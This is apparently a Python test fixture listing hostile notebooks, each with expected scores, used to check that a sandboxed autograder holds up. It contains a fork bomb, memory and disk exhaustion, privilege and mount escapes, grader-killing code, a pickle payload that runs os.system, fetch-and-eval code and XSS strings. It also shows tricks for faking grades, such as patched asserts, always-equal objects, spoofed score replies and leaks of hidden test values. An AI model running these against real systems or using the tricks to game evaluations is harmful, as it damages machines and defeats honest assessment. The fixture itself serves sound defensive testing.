"""Notebooks that try to get marks, or to do harm: for each its cells, and the points that it must get.

The exercise that they answer is small. Question 1, `double(x)`: 1 point that the visible numbers give, 3 for hidden ones.
Question 2, `row_means(x)`: 2 points. PLACES is replaced by a list of the folders that must not be read or written, PORT by
that of a server that must not be reached.
"""

ONE = "def double(x):\n    return 2 * x"
TWO = "def row_means(x):\n    return x.mean(axis=1)"
RIGHT = f"import numpy as np\n\n{ONE}\n\n{TWO}"
NO_ANSWER = "import numpy as np"


def in_question_1(lines):
    """Cells whose `double` runs these lines, and whose `row_means` is right."""
    body = "\n".join("    " + line for line in lines.strip("\n").split("\n"))
    return ["import os, signal, subprocess, sys, time\nimport numpy as np", f"def double(x):\n{body}", TWO]


HOSTILE = {
    # --- honest ones, to compare with
    "an honest notebook": ([RIGHT], 6),
    "nothing at all": ([], 0),
    "magics and shell lines": (["%matplotlib inline\n!echo hello", "%%time\n" + RIGHT, "%pip install numpy\n%timeit -n 1 -r 1 double(1)"], 6),
    "a cell with a syntax error": (["def broken(:\n    pass", RIGHT], 6),
    "sys.exit() between the answers": ([RIGHT, "import sys\nsys.exit(0)"], 6),
    "a megabyte of text printed again and again": ([RIGHT, "for _ in range(300):\n    print('x' * 2**20)"], 6),
    # --- time
    "an endless loop in a cell": (["while True:\n    pass", RIGHT], 6),
    "an endless loop in a function": (in_question_1("while True:\n    pass"), 2),
    "an endless loop that ignores signals": (
        in_question_1("for s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True:\n    pass"),
        2,
    ),
    "a process that stops itself": (in_question_1("os.kill(os.getpid(), signal.SIGSTOP)\nreturn 2 * x"), 2),
    "a thread that swallows the questions": (
        [RIGHT, "import gc, io, threading\n\ndef swallow():\n    for f in [o for o in gc.get_objects() if isinstance(o, io.BufferedReader)]:\n        f.read()\n"
         "threading.Thread(target=swallow, daemon=True).start()\nimport time; time.sleep(0.2)"],
        0,
    ),
    # --- memory, processes, disk
    "all of the memory": (in_question_1("kept = []\nwhile True:\n    kept.append(np.ones(10**8, 'u1'))"), 2),
    "a line of spaces": (["x = 1 #" + " " * 300_000 + "end", RIGHT], 6),
    "strings that grow into gigabytes": (in_question_1("return ['x' * 5000] + [''] * 100_000"), 2),
    "millions of empty lists": (in_question_1("return [[] for _ in range(4_000_000)]"), 2),
    "a fork bomb": (in_question_1("while True:\n    try: os.fork()\n    except OSError: pass"), 2),
    "a full disk": (["with open('/tmp/big', 'wb') as f:\n    while True:\n        f.write(bytes(10**7))", RIGHT], 6),
    "a full shared memory": (["with open('/dev/shm/big', 'wb') as f:\n    while True:\n        f.write(bytes(10**7))", RIGHT], 6),
    "a million small files": (["for i in range(10**6):\n    open(f'/tmp/{i}', 'w').close()", RIGHT], 6),
    "memory in files without a name": (
        in_question_1("kept = [os.memfd_create('kept') for _ in range(20)]\nfor fd in kept:\n    for _ in range(10): os.write(fd, bytes(10**7))\nreturn 2 * x"), 2
    ),
    "shared memory that leaves the process": (
        in_question_1("import mmap\nkept = [mmap.mmap(-1, 10**9) for _ in range(5)]\nfor one in kept:\n    for i in range(0, 10**9, 4096): one[i] = 1\n"
                      "    one.madvise(mmap.MADV_DONTNEED)\nreturn 2 * x"),
        2,
    ),
    "shared memory from /dev/zero": (in_question_1("import mmap\nkept = mmap.mmap(os.open('/dev/zero', os.O_RDWR), 10**9)\nreturn 2 * x"), 2),
    "shared memory of System V": (in_question_1("import ctypes\nassert ctypes.CDLL(None).shmget(0, ctypes.c_size_t(10**9), 0o1600) >= 0\nreturn 2 * x"), 2),
    "sockets that nobody reads": (
        in_question_1("import socket\nserver = socket.create_server(('127.0.0.1', 0))\nkept = []\nwhile True:\n    one = socket.create_connection(server.getsockname())\n"
                      "    one.setblocking(False)\n    kept += [one, server.accept()]\n    try:\n        while True: one.send(bytes(10**6))\n    except BlockingIOError: pass"),
        2,
    ),
    "pipes and sockets that are never closed": (
        ["import os, socket\nkept = []\ntry:\n    while True:\n        kept += socket.socketpair()\n        kept[-1].setblocking(False)\n"
         "        try:\n            while True: kept[-1].send(bytes(10**5))\n        except BlockingIOError: pass\nexcept OSError: pass\nassert len(kept) < 300\nfor one in kept: one.close()", RIGHT],
        6,
    ),
    "reserved memory": (in_question_1("import ctypes, mmap\nkept = [mmap.mmap(-1, 2**36, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000) for _ in range(4)]\nreturn 2 * x"), 2),
    "killing itself": (in_question_1("os.kill(os.getpid(), signal.SIGKILL)"), 2),
    # --- what is outside
    "the kernel's less common calls": (
        in_question_1("import ctypes, platform\ncall = ctypes.CDLL(None).syscall\nx86 = platform.machine() == 'x86_64'\n"
                      "calls = {'io_uring': (425, 4, bytes(120)), 'userfaultfd': (323 if x86 else 282, 1), 'bpf': (321 if x86 else 280, 0, bytes(100), 100),\n"
                      "         'keyctl': (250 if x86 else 219, 0, -3, 0), 'add_key': (248 if x86 else 217, b'user', b'k', b'v', 1, -3), 'unshare': (272 if x86 else 97, 0x10000000),\n"
                      "         'x32': (0x40000000 + 39,), 'the newest': (470,)}\n"
                      "assert [name for name, numbers in calls.items() if call(*numbers) != -1]\nreturn 2 * x"),
        2,
    ),
    "sockets of every family": (
        in_question_1("import socket\nopened = []\nfor family in range(2, 64):\n    for kind in (1, 2, 3, 5):\n        try: opened.append(socket.socket(family, kind))\n        except OSError: pass\nassert opened\nreturn 2 * x"),
        2,
    ),
    "the instructor's keys": (in_question_1("assert open('/proc/keys').read() or open('/proc/key-users').read()\nreturn 2 * x"), 2),
    "the network": (in_question_1("import urllib.request\nreturn eval(urllib.request.urlopen('http://127.0.0.1:PORT/').read())"), 2),
    "reading the solutions": (
        in_question_1(
            "for place in PLACES + ['/home', '/root', '/course', '/opt', '/tmp', '/proc/1/root']:\n"
            "    for folder, _, files in os.walk(place):\n"
            "        for name in files:\n"
            "            if name.endswith('.ipynb') or name.endswith('.json'):\n"
            "                if 'return 2 * x' in open(os.path.join(folder, name)).read():\n"
            "                    return 2 * x\n"
            "raise FileNotFoundError('no solution anywhere')"
        ),
        2,
    ),
    "writing into every folder": (
        [RIGHT, "import os\nfor place in PLACES:\n    try:\n        os.makedirs(place, exist_ok=True)\n        open(place + '/touched', 'w').write('here')\n    except OSError: pass",
         "import pathlib\nfor path in ['/course/gdl/checks.py', '/course/gdl/instructor/grading/channel.py', '/usr/bin/python3', '/etc/passwd', '/proc/sys/kernel/core_pattern']:\n"
         "    try:\n        pathlib.Path(path).write_text('broken')\n    except OSError: pass"],
        6,
    ),
    "a link to outside": (in_question_1("os.symlink(PLACES[0], '/tmp/link')\nreturn 2 * x if os.listdir('/tmp/link') else None"), 2),
    "killing the grader": (
        [RIGHT, "import os, signal\nfor pid in [os.getppid(), 1, -1, *range(2, 3000)]:\n    if pid != os.getpid():\n        try: os.kill(pid, signal.SIGKILL)\n        except OSError: pass"],
        6,
    ),
    "a daemon that outlives the run": (
        [RIGHT, "import os, subprocess\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp('sleep', ['sleep', '31415926'])\n    os._exit(0)",
         "subprocess.Popen(['sleep', '31415926'], start_new_session=True)"],
        6,
    ),
    "becoming root": (in_question_1("os.setuid(0)\nreturn 2 * x"), 2),
    "leaving by mounts": (in_question_1("done = subprocess.run(['mount', '--bind', '/usr', '/course'], capture_output=True)\nassert done.returncode == 0\nreturn 2 * x"), 2),
    # --- the tests themselves
    "patched asserts": (
        [NO_ANSWER, "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\nimport builtins, unittest\nunittest.TestCase.assertEqual = lambda *a: None",
         "import gdl.checks\ngdl.checks.is_close = gdl.checks.has_shape = gdl.checks.expect = lambda *a, **k: None\nimport os\nos.environ['GDL_CHECKS'] = 'no'"],
        0,
    ),
    "patched NumPy": (
        ["import numpy as np\nnp.allclose = np.array_equal = np.isclose = lambda *a, **k: True\nnp.asarray = lambda x, *a, **k: np.zeros(3)\nnp.all = lambda *a: True",
         "def double(x):\n    return np.zeros(3)\n\ndef row_means(x):\n    return np.zeros(3)"],
        0,
    ),
    "patched IPython": (
        ["import IPython\nip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['passed = True\\n'])\nip.events.register('pre_run_cell', lambda info: None)",
         "ip.run_cell = lambda *a, **k: type('R', (), {'error_before_exec': None, 'error_in_exec': None, 'success': True})()"],
        0,
    ),
    "an answer that is equal to everything": (
        ["class Equal:\n    def __eq__(self, other): return True\n    def __array__(self, *a, **k): raise KeyError\n    __hash__ = None\n    shape = (3,)\n    ndim = 1\n"
         "def double(x): return Equal()\ndef row_means(x): return Equal()"],
        0,
    ),
    "a subclass of float that lies": ([NO_ANSWER, "class Any(float):\n    def __eq__(self, o): return True\ndef double(x): return [Any(0)] * len(x)\ndef row_means(x): return [Any(0)] * len(x)"], 0),
    "not a number": ([NO_ANSWER, "def double(x): return x * np.nan\ndef row_means(x): return x.mean(axis=1) * np.inf"], 0),
    "a scalar where an array is due": ([NO_ANSWER, "def double(x): return 2 * x[0]\ndef row_means(x): return x.mean()"], 0),
    "right for the visible numbers only": (["import numpy as np\ndef double(x): return np.array([2.0, 4.0, 6.0])", TWO], 3),
    "an answer to the wrong question": ([f"{ONE}\nrow_means = double"], 4),
    # --- the channel
    "os._exit in a cell": (["import os\nos._exit(0)", RIGHT], 6),
    "os._exit in a function": (in_question_1("os._exit(0)"), 2),
    "a crash of Python": (in_question_1("import ctypes\nctypes.string_at(0)"), 2),
    "spoofed replies": (
        [NO_ANSWER, "import json, os\nfor number in range(1, 50):\n    data = json.dumps({'id': number, 'value': True, 'points': 6, 'passed': True, 'score': 6}).encode()\n"
         "    for fd in range(3, 20):\n        try: os.write(fd, len(data).to_bytes(8, 'big') + data)\n        except OSError: pass"],
        0,
    ),
    "a pickle as a reply": (
        in_question_1("import pickle\nclass Bad:\n    def __reduce__(self): return (os.system, ('touch ' + PLACES[0] + '/touched',))\ndata = pickle.dumps(Bad())\n"
                      "for fd in range(3, 20):\n    try: os.write(fd, len(data).to_bytes(8, 'big') + data)\n    except OSError: pass\nreturn 2 * x"),
        2,
    ),
    "an array of objects as a reply": (
        in_question_1("import base64, json\ndata = json.dumps({'id': 10, 'value': {'__array__': ['|O', [1], base64.b64encode(b'AAAAAAAA').decode()]}}).encode()\n"
                      "for fd in range(3, 20):\n    try: os.write(fd, len(data).to_bytes(8, 'big') + data)\n    except OSError: pass\nreturn 2 * x"),
        2,
    ),
    "a reply with an enormous shape": (
        in_question_1("import json\ndata = json.dumps({'id': 10, 'value': {'__array__': ['<f8', [10**8, 0, 2], '']}}).encode()\n"
                      "for fd in range(3, 20):\n    try: os.write(fd, len(data).to_bytes(8, 'big') + data)\n    except OSError: pass\nreturn 2 * x"),
        2,
    ),
    "a reply nested ten thousand deep": (
        in_question_1("data = b'{\"id\": 1, \"value\": ' + b'[' * 10**4 + b']' * 10**4 + b'}'\n"
                      "for fd in range(3, 20):\n    try: os.write(fd, len(data).to_bytes(8, 'big') + data)\n    except OSError: pass\nreturn 2 * x"),
        2,
    ),
    "a reply that never ends": (in_question_1("for fd in range(3, 20):\n    try: os.write(fd, (10**6).to_bytes(8, 'big') + b'{')\n    except OSError: pass\ntime.sleep(60)"), 2),
    "an oversized reply": (in_question_1("return 'x' * 2 * 10**7"), 2),
    "a length of 2**63": (in_question_1("for fd in range(3, 20):\n    try: os.write(fd, (2**63).to_bytes(8, 'big'))\n    except OSError: pass\ntime.sleep(60)"), 2),
    "a fake score printed": ([NO_ANSWER, "print('q1: 4 of 4')\nprint('{\"points\": 6}')\nimport sys\nsys.__stdout__.write('6 passed, 0 failed')\nsys.stderr.write('Score: 100 %')"], 0),
    # --- the page that people read
    "HTML and script": (
        ["# <script>alert(1)</script>", "def double(x):\n    raise ValueError('<img src=x onerror=alert(2)>')\n\ndef row_means(x):\n    return '<script>alert(3)</script>'",
         "from IPython.display import HTML\nHTML('<script>alert(4)</script>')"],
        0,
    ),
    "an error that shows the hidden numbers": ([f"import numpy as np\n\ndef double(x):\n    if x[0] == 1:\n        return 2 * x\n    raise ValueError('they ask for ' + str(x[:3]))\n\n{TWO}"], 3),
    "an error whose name shows the hidden numbers": ([f"def double(x):\n    raise type('asked_%.3f' % x[0], (Exception,), {{}})()\n\n{TWO}"], 2),
    "a later error that shows the hidden numbers": (
        ["asked = []\n\ndef double(x):\n    asked.append(x[:3])\n    return 2 * x\n\ndef row_means(x):\n    raise ValueError('asked before: ' + ' '.join(map(str, asked)))"],
        4,
    ),
}  # fmt: skip
